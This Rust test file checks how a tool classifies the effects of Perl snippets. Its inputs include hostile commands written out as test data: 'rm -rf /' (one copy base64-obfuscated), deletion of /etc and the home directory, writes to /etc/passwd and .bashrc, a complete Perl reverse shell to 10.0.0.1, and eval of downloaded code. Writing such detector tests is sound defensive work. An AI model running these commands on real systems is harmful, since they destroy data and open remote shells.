use super::check;
use crate::knowledge::Lang::Perl;

#[test]
fn processes() {
    check(
        Perl,
        &[
            ("system('rm -rf /')", "shell rm -rf /"),
            ("system \"rm\", \"-rf\", \"/\"", "argv rm -rf /"),
            ("my $d = '/'; system(\"rm -rf $d\");", "shell rm -rf /"),
            ("exec \"/bin/sh -i\";", "shell /bin/sh -i"),
            ("print `id`;", "shell id"),
            ("my $x = qx{ls -la};", "shell ls -la"),
            ("open(my $p, '-|', 'ls', '-l') or die;", "argv ls -l"),
            ("open(P, \"ls |\");", "shell ls"),
            ("open P, \"| sh\";", "shell sh"),
            ("my @c = ('rm', '-rf', '/'); system(@c);", "argv rm -rf /"),
            ("my @c = qw(rm -rf /); system @c;", "argv rm -rf /"),
            ("system(join ' ', 'rm', '-rf', '/')", "shell rm -rf /"),
            ("system(pack('H*', '726d') . ' x')", "shell rm x"),
            ("use MIME::Base64; system(decode_base64('cm0gLXJmIC8='))", "shell rm -rf /"),
            ("eval \"system('id')\"", "shell id"),
            ("eval $code", "eval"),
            ("eval { die 'x' }; print $@ if $@;", ""),
            ("kill 9, getppid;", "kill $PPID"),
            ("kill 'TERM', -1;", "kill -1"),
            ("kill 0, $pid", ""),
            ("s/(\\w+)/`$1`/e", "shell ?"),
            ("sub run { my $c = shift; system($c) } run('ls'); run('id');", "shell ls; shell id"),
            ("$h = $ENV{HOME}; system(\"ls $h/x\")", "shell ls ~/x"),
        ],
    );
}

#[test]
fn files() {
    check(
        Perl,
        &[
            ("File::Path::remove_tree(\"/etc\", \"/usr\")", "delete! /etc; delete! /usr"),
            ("use File::Path qw(rmtree); rmtree($ENV{HOME});", "delete! ~"),
            ("unlink 'a', 'b';", "delete a; delete b"),
            ("unlink glob('/etc/*')", "delete /etc/*"),
            ("unlink $_ for glob '/tmp/*.log'", "delete /tmp/*.log"),
            ("foreach my $f (</etc/*>) { unlink $f }", "delete /etc/*"),
            ("map { unlink $_ } glob(\"/etc/*\");", "delete /etc/*"),
            ("opendir(my $d, '/etc'); while (my $f = readdir($d)) { unlink \"/etc/$f\" }", "delete /etc/*"),
            ("open(my $fh, '>', '/etc/passwd') or die; print $fh 'x';", "write /etc/passwd"),
            ("open(F, \">>$ENV{HOME}/.bashrc\");", "write ~/.bashrc"),
            ("open my $fh, '<', 'x.txt'; while (<$fh>) { print }", "read x.txt"),
            ("rename 'a', 'b'; chmod 0777, 'c', 'd';", "move a b; mode c; mode d"),
            ("use File::Copy; move('a', '/etc/b');", "move a /etc/b"),
            ("use File::Find; find(sub { unlink $_ }, '/srv');", "delete /srv/*"),
        ],
    );
}

#[test]
fn network() {
    check(
        Perl,
        &[
            (
                "use Socket;$i=\"10.0.0.1\";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};",
                "connect 10.0.0.1:4242; shell /bin/sh -i",
            ),
            (
                "use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => '10.0.0.1:4444');",
                "connect 10.0.0.1:4444",
            ),
            ("my $ua = LWP::UserAgent->new; my $r = $ua->post('https://x', {a => 1});", "send https://x"),
            ("use LWP::Simple; eval get('https://x/y.pl');", "fetch https://x/y.pl; eval downloaded"),
            ("my $db = DBI->connect('dbi:SQLite:x'); $db->do('drop table t');", "sql drop table t"),
        ],
    );
}

#[test]
fn ordinary() {
    check(
        Perl,
        &[
            ("print \"$.: $_\" if /\\bunwrap\\(\\)/ && !/tests?/", ""),
            ("s{lodash/get}{es-toolkit/compat}g", ""),
            ("s/rm -rf/x/; tr/a-z/A-Z/; y/a/b/; m{/etc/passwd}", ""),
            ("my %h = (system => 1, s => 2, y => 3); print $h{system}, $h{s}; $h{q} = 1;", ""),
            ("print 'system(\"rm -rf /\")', \"\\n\"; # system('x')", ""),
            ("while (<>) { chomp; my @f = split /,/; $s += $f[2] / $n } printf \"%d\\n\", $s;", ""),
            (
                "use strict; use warnings; my $x = { a => [1, 2], b => sub { return $_[0] + 1 } }; print $x->{b}->(2);",
                "",
            ),
            ("my $t = <<'EOT';\nsystem('rm')\nEOT\nprint $t;", ""),
            ("=pod\n\nsystem('x')\n\n=cut\nprint 1;", ""),
            ("print \"a\" x 3, $#x, @{$y}, %$z, $1 if $s =~ m/^(\\d+)$/; $c++ while $t =~ /x/g;", ""),
            ("print \"$h{x}{y} $a->[0] @{[ 1 + 2 ]} user\\@example.com\\n\"", ""),
        ],
    );
}
